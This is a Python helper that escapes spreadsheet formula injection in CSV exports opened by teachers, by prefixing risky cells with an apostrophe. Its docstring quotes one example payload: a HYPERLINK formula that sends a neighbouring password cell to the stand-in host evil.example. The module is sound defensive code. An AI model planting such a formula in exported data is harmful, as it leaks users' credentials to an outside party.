"""CSV files that teachers open in a spreadsheet program (Excel, WPS, LibreOffice).

A cell whose text starts with = + - @ (or a tab or carriage return) is read as a formula
there: a student's display name such as `=HYPERLINK("http://evil.example/?"&C2, "open")`
would run in the teacher's spreadsheet, with the cells beside it (a new password) as its
argument. Such text is written with a leading apostrophe, which the spreadsheet shows as
plain text; numbers (a negative correction) stay numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def csv_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row of cells, each as it may safely be written (csv_cell)."""
    return [csv_cell(value) for value in values]
